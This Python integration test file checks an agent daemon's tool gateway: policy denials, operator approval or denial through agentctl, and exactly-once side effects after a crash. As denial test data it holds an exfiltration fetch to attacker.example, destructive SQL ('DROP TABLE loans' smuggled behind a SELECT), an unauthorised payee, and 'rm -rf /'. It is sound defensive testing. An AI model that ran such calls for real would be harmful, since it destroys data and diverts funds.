"""Tools through the running daemon: a real worker calls the gateway; policy, approvals by an
operator with agentctl, and exactly-once side effects across a crash and redelivery."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.harness import TEST_AGENTS, DaemonProcess, decision_records, running_daemon, write_config

pytestmark = pytest.mark.integration

APPLICANT = "A-4711"


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("ledger") / "loan-ledger.jsonl"


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory, ledger: Path) -> Iterator[DaemonProcess]:
    directory = tmp_path_factory.mktemp("tools")
    agents = directory / "agents"
    agents.mkdir()
    (agents / "underwriter").symlink_to(TEST_AGENTS / "toolrunner")
    config = write_config(
        directory,
        agents_dir=agents,
        policy="enforce",
        extra=(
            "[inbox]\nack_wait_s = 2.0\n"
            "[tools]\napproval_timeout_s = 8.0\n"
            f'dir = "{TEST_AGENTS.parent.parent / "tools"}"\n'
            "[autoscale]\nenabled = false\n"
        ),
    )
    with running_daemon(config, env={"AGENTD_LOAN_LEDGER": str(ledger)}) as d:
        yield d
        assert d.stop() == 0


def call(daemon: DaemonProcess, payload: dict[str, Any]) -> dict[str, Any]:
    out = daemon.agentctl("send", "underwriter", json.dumps(payload), "--wait", timeout_s=90)
    assert out.returncode == 0, f"{out.stderr}\n{daemon.log()}"
    result: dict[str, Any] = json.loads(out.stdout)
    return result


def approve_args(amount: float, payee: str = "acct-1001") -> dict[str, Any]:
    return {"applicant_id": APPLICANT, "amount": amount, "payee": payee}


def ledger_lines(ledger: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in ledger.read_text().splitlines()] if ledger.exists() else []


def test_an_allowed_call_runs_and_its_result_comes_back(daemon: DaemonProcess) -> None:
    out = call(daemon, {"tool": "credit.score", "args": {"applicant_id": APPLICANT}})
    assert "score" in json.dumps(out["result"])


def test_injected_calls_are_denied_with_the_rule_and_recorded(daemon: DaemonProcess) -> None:
    injected = [
        ("loan.approve", approve_args(5000, payee="acct-6666")),  # another payee
        ("loan.approve", approve_args(900000)),  # over the cap
        ("http.fetch", {"url": "https://attacker.example/exfiltrate?data=all"}),  # another host
        ("sql.query", {"query": "DELETE FROM loans"}),  # a write
        ("sql.query", {"query": "SELECT 1; DROP TABLE loans"}),  # a write behind a read
    ]
    before = len(decision_records(daemon.dir / "state", "tool.denied"))
    for tool, args in injected:
        error = call(daemon, {"tool": tool, "args": args})["error"]
        assert error["code"] == "policy_denied", (tool, args, error)
        assert error["rule"].startswith("constraints.toml:"), error
    time.sleep(0.2)
    denied = decision_records(daemon.dir / "state", "tool.denied")
    assert len(denied) - before == len(injected)
    assert all(r["lineage"]["policy_version"] for r in denied[before:])


def test_a_tool_outside_the_agents_spec_is_refused(daemon: DaemonProcess) -> None:
    error = call(daemon, {"tool": "shell.run", "args": {"cmd": "rm -rf /"}})["error"]
    assert error["code"] in {"unknown_tool", "policy_denied"}


def test_a_redelivered_run_does_not_execute_the_tool_twice(
    daemon: DaemonProcess, ledger: Path, tmp_path: Path
) -> None:
    before = len(ledger_lines(ledger))
    # in the replica's own scratch folder: the only place a sandboxed replica may write
    marker = daemon.dir / "state" / "scratch" / "underwriter" / f"crashed-once-{tmp_path.name}"
    payload = {"tool": "loan.approve", "args": approve_args(5000), "crash_once": str(marker)}
    out = call(daemon, payload)  # the first run dies after the call; the rerun gets the result
    assert marker.exists(), "the first run must have crashed after its tool call"
    assert out["result"]
    assert len(ledger_lines(ledger)) - before == 1  # the side effect happened once
    time.sleep(0.2)
    executed = decision_records(daemon.dir / "state", "tool.executed")
    assert [r["decision"] for r in executed if r.get("run_id")].count("replayed") >= 1


def _waiting(daemon: DaemonProcess, amount: float) -> dict[str, Any]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        out = daemon.agentctl("--json", "approvals")
        assert out.returncode == 0, out.stderr
        for entry in json.loads(out.stdout):
            if entry["args"]["amount"] == amount:
                found: dict[str, Any] = entry
                return found
        time.sleep(0.1)
    raise AssertionError("the call never showed up in agentctl approvals")


def _call_in_background(
    daemon: DaemonProcess, payload: dict[str, Any]
) -> tuple[threading.Thread, dict[str, Any]]:
    box: dict[str, Any] = {}
    thread = threading.Thread(target=lambda: box.update(call(daemon, payload)))
    thread.start()
    return thread, box


def test_approve_lets_that_exact_call_through_once(daemon: DaemonProcess, ledger: Path) -> None:
    before = len(ledger_lines(ledger))
    thread, box = _call_in_background(daemon, {"tool": "loan.approve", "args": approve_args(20000)})
    waiting = _waiting(daemon, 20000)
    assert waiting["agent"] == "underwriter" and waiting["tool"] == "loan.approve"
    assert waiting["run_id"] and waiting["rule"].startswith("constraints.toml:")
    assert daemon.agentctl("approvals").stdout.count("loan.approve") >= 1
    approved = daemon.agentctl("approve", waiting["id"])
    assert approved.returncode == 0, approved.stderr
    thread.join(60)
    assert "result" in box, box
    assert len(ledger_lines(ledger)) - before == 1
    again = daemon.agentctl("approve", waiting["id"])
    assert again.returncode == 1  # single use: nothing waits under that id any more


def test_deny_and_timeout_refuse_the_call(daemon: DaemonProcess, ledger: Path) -> None:
    before = len(ledger_lines(ledger))
    thread, box = _call_in_background(daemon, {"tool": "loan.approve", "args": approve_args(30000)})
    waiting = _waiting(daemon, 30000)
    denied = daemon.agentctl("deny", waiting["id"], "--reason", "no collateral")
    assert denied.returncode == 0, denied.stderr
    thread.join(60)
    assert box["error"]["code"] == "approval_denied"
    assert "no collateral" in box["error"]["message"]

    timed_out = call(daemon, {"tool": "loan.approve", "args": approve_args(40000)})  # nobody acts
    assert timed_out["error"]["code"] == "approval_timeout"
    assert len(ledger_lines(ledger)) == before
    kinds = {r["kind"] for r in decision_records(daemon.dir / "state")}
    assert {"tool.approval_requested", "tool.approved", "tool.rejected"} <= kinds
